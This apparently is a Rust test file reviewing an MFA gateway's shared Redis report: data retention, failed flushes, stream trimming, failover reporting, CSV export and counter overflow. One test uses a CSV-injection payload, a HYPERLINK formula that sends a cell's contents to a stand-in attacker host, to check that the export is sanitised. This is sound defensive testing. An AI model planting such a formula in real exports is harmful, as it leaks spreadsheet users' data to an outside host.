//! Review 10: the fleet-wide report on Redis (what it stores, how long, what a failed flush
//! leaves behind, the 10,000 newest rows).

use crate::fleet_report::{FAILED_FLUSHES, PENDING, from_logs, instance, summary, with_mfa};
use crate::support::redis::RedisServer;
use crate::support::{eventually, sample};
use mfagate::clock::Clock;
use serde_json::Value;
use std::time::Duration;

const DAY: Duration = Duration::from_secs(86_400);
const RECENT: &str = "test:report:recent";

fn stream_len(redis: &RedisServer) -> u64 {
    redis.command(&["XLEN", RECENT]).unwrap().trim_start_matches(':').parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_rows_with_personal_data_do_not_outlive_the_window_plus_a_day_in_redis() {
    // Each App+User row holds a UPN, object id and source IP. The README promises the shared
    // keys expire after the window plus a day; the stream's expiry is renewed by every flush and
    // it is trimmed only by count, so on a fleet with fewer than 10,000 requests a week a row
    // stays in Redis for as long as the fleet runs.
    let redis = RedisServer::start();
    let a = instance(&redis, "a").start().await;
    with_mfa(&a, 1).await;
    eventually("the first row in Redis", || async { stream_len(&redis) == 1 }).await;
    a.clock.advance(10 * DAY);
    with_mfa(&a, 1).await;
    eventually("the second request counted", || async {
        let (v, _) = summary(&a).await;
        v["api"]["app_user_requests"] == 1 && sample(&a, PENDING).await == 0.0
    })
    .await;
    assert_eq!(stream_len(&redis), 1, "a row from ten days ago is still held in Redis");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flush_that_fails_half_way_is_not_then_dropped_as_already_counted() {
    // Another program's key under the prefix makes the flush script fail at its XADD, after it
    // stored the batch number and added the day counts (Redis does not roll a script back). The
    // resent batch is then skipped as "already counted": its row and its contributor never
    // arrive, though the day counts did.
    let redis = RedisServer::start();
    assert_eq!(redis.command(&["SET", RECENT, "another program's value"]).unwrap(), "+OK");
    let a = instance(&redis, "a").start().await;
    with_mfa(&a, 1).await;
    eventually("a failed flush", || async { sample(&a, FAILED_FLUSHES).await >= 1.0 }).await;
    assert_eq!(redis.command(&["DEL", RECENT]).unwrap(), ":1");
    eventually("nothing pending", || async { sample(&a, PENDING).await == 0.0 }).await;
    let (v, scope) = summary(&a).await;
    assert_eq!(scope["fleet"], true);
    let logs = from_logs(&[&a]);
    assert_eq!(v["api"]["app_user_requests"], logs.totals.api_app_user);
    let instances = scope["instances"].as_array().unwrap();
    assert_eq!(instances.len(), 1, "the instance's contribution is missing: {scope}");
    assert_eq!(instances[0]["records"], 1);
    let rows = a.admin_get("/v1/partnerRequests").await.json();
    assert_eq!(rows["totalCount"], 1, "the request's row never reached the report: {rows}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "review 10, not fixed: the stream keeps the rows added last, not the newest"]
async fn a_late_batch_of_older_rows_does_not_push_newer_rows_out_of_the_10000() {
    // The stream keeps the 10,000 rows *added last*, not the 10,000 newest: a batch that waited
    // (Redis down, a slow instance) and arrives after another instance's newer rows trims those
    // away and puts its older rows in their place. `mfagate report` keeps the newest by time.
    // The other instance's 10,000 rows are written here directly, in the flush's row format.
    let redis = RedisServer::start();
    let a = instance(&redis, "a").start().await;
    let newer = a.clock.now_millis() + 60_000;
    let forge = "for i = 1, 10000 do \
        local row = '[' .. (tonumber(ARGV[1]) + i) .. ',\"b-' .. i .. '\",\"\",\"GET /v1/x\",\"192.0.2.1\",\"oid\",\"tid\",\"b@example.com\",\"app\",true]' \
        redis.call('XADD', KEYS[1], 'MAXLEN', '10000', '*', 'r', row) end return 1";
    assert_eq!(redis.command(&["EVAL", forge, "1", RECENT, &newer.to_string()]).unwrap(), ":1");
    // `a`'s request is older than every one of them, and arrives after them.
    with_mfa(&a, 1).await;
    eventually("a's row flushed", || async { sample(&a, PENDING).await == 0.0 }).await;
    a.clock.advance(Duration::from_secs(3_600));
    let rows = a.admin_get("/v1/partnerRequests").await.json();
    let items = rows["items"].as_array().unwrap();
    assert_eq!(items.len(), 10_000);
    let ours: Vec<&Value> =
        items.iter().filter(|r| !r["requestId"].as_str().unwrap().starts_with("b-")).collect();
    assert!(ours.is_empty(), "an older row replaced one of the 10,000 newest: {ours:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fleet_answer_does_not_hide_that_this_instances_records_cannot_be_written() {
    // A Redis turned replica (a failover gone wrong) refuses every write and still answers
    // reads from what it holds: this instance's flushes fail, and its own answers say
    // "fleet-wide" with its newest records missing, though it knows how many it holds back.
    let redis = RedisServer::start();
    let a = instance(&redis, "a").start().await;
    with_mfa(&a, 1).await;
    eventually("flushed", || async {
        sample(&a, PENDING).await == 0.0 && summary(&a).await.1["fleet"] == true
    })
    .await;
    assert_eq!(redis.command(&["REPLICAOF", "127.0.0.1", "1"]).unwrap(), "+OK");
    with_mfa(&a, 1).await;
    eventually("a failed flush", || async { sample(&a, FAILED_FLUSHES).await >= 1.0 }).await;
    let (v, scope) = summary(&a).await;
    let logs = from_logs(&[&a]);
    assert_eq!(logs.totals.api_app_user, 2);
    // What the fleet answer counts and what it says it lacks make up this instance's log (the
    // first record may or may not have been flushed before the failover).
    let (counted, unsent) =
        (v["api"]["app_user_requests"].as_u64().unwrap(), scope["unsent_records"].as_u64());
    assert_eq!(scope["fleet"], true, "{scope}");
    assert_eq!(
        Some(logs.totals.api_app_user),
        unsent.map(|u| u + counted),
        "claims the fleet's numbers without this instance's unsent records, and does not say so: {v} {scope}"
    );
    assert!(unsent >= Some(1), "{scope}");
    let header =
        a.admin_get("/v1/report").await.headers["x-mfagate-report-scope"].to_str().unwrap().to_owned();
    assert!(header.ends_with(&format!("; unsent={}", unsent.unwrap())), "{header}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_chosen_request_id_is_not_a_formula_in_the_csv_export() {
    // `MS-RequestId` is the client's (any printable ASCII up to 128 bytes) and becomes the
    // `RequestId` cell of "All API requests", a file made to be opened in a spreadsheet. Read back
    // from Redis, it is also what any writer to the shared store put there.
    let redis = RedisServer::start();
    let a = instance(&redis, "a").start().await;
    let token = a.token(|_| {});
    let formula = r#"=HYPERLINK("http://evil.test/?"&B2,"open")"#;
    let req =
        a.request("/v1/x", Some(&token)).header("ms-requestid", formula).body(Default::default()).unwrap();
    assert_eq!(a.send(req).await.status, http::StatusCode::OK);
    eventually("flushed", || async {
        sample(&a, PENDING).await == 0.0 && summary(&a).await.1["fleet"] == true
    })
    .await;
    let csv = a.admin_get("/exports/all_api_requests.csv").await.body;
    assert!(csv.contains("HYPERLINK"), "{csv}");
    for cell in csv.lines().flat_map(|l| l.split(',')) {
        let cell = cell.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a spreadsheet formula in the export: {csv}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn day_counts_read_back_from_redis_that_overflow_do_not_wrap_or_panic() {
    // Counts come back from Redis as text; two days of `u64::MAX` (any writer to the store, or a
    // store restored from another deployment) overflowed the window's totals: a panic in a
    // debug build, a small wrapped number in a release one.
    let redis = RedisServer::start();
    let a = instance(&redis, "a").start().await;
    let today = a.clock.now_millis() / 86_400_000;
    for day in [today - 1, today] {
        let key = format!("test:report:day:{day}");
        assert_eq!(redis.command(&["HSET", &key, "api_app_user", &u64::MAX.to_string()]).unwrap(), ":1");
    }
    let reply = a.admin_get("/v1/report").await;
    assert_eq!(reply.status, http::StatusCode::OK);
    let v = reply.json();
    let total = v["api"]["app_user_requests"].as_u64().unwrap();
    assert!(total == u64::MAX || v["scope"]["fleet"] == false, "wrapped: {v}");
}
